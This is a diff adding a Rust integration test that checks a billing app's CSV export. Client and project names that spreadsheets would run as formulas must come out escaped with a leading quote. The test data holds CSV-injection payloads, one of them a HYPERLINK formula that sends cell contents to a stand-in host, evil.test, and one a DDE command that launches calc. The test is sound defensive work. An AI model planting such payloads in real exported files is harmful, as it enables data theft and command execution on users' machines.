@@ -728,6 +728,72 @@ async fn report_totals_equal_their_entries_across_dst_and_a_month_in_auckland() 
     let _ = c.client;
 }
 
+/// Names a spreadsheet would run as formulas come out of the CSV as text: a leading `'`,
+/// the rest as written (quotes escaped by the CSV's own rules).
+#[tokio::test]
+async fn names_that_would_be_formulas_come_out_of_the_csv_as_text() {
+    let app = TestApp::new().await;
+    let t = app.create_tenant("acme").await;
+    let admin = app.login_admin(&t).await;
+    let build = app.as_user(&t, &admin);
+    let hyperlink = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")";
+    let command = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let first = build.client(hyperlink).await;
+    let second = build.client(command).await;
+    let plus = build
+        .project_with(json!({ "clientId": first, "name": "+cmd", "code": "-1", "hourlyRate": "100" }))
+        .await;
+    let plain = build.project(&second, "Website", "100").await;
+    build.log(&plus, "2026-11-02", 60).await;
+    build.log(&plain, "2026-11-03", 30).await;
+
+    let (status, csv) = get_csv(
+        &app,
+        &t.host,
+        Some(&admin),
+        "from=2026-11-01&to=2026-11-30&groupBy=CLIENT,PROJECT",
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    let names: std::collections::HashSet<(String, String, String)> = rows
+        .iter()
+        .map(|r| (r[0].clone(), r[1].clone(), r[2].clone()))
+        .collect();
+    assert_eq!(
+        names,
+        [
+            (format!("'{hyperlink}"), "'-1".to_owned(), "'+cmd".to_owned()),
+            (format!("'{command}"), String::new(), "Website".to_owned()),
+        ]
+        .into_iter()
+        .collect(),
+        "{csv}"
+    );
+    // The figures are left as they are.
+    assert!(rows.iter().any(|r| r[5] == "60"), "{csv}");
+    // The GraphQL report gives the names as stored.
+    let report = app
+        .gql(
+            &t.host,
+            Some(&admin),
+            "{ billableHours(from: \"2026-11-01\", to: \"2026-11-30\", groupBy: [CLIENT]) { rows { client { name } } } }",
+            json!({}),
+        )
+        .await;
+    let names: Vec<&str> = report["billableHours"]["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["client"]["name"].as_str().unwrap())
+        .collect();
+    assert!(names.contains(&hyperlink) && names.contains(&command), "{report}");
+}
+
 async fn get_csv(app: &TestApp, host: &str, token: Option<&str>, query: &str) -> (StatusCode, String) {
     let (status, _, bytes) = app
         .get_raw(host, token, &format!("/reports/billable-hours.csv?{query}"))
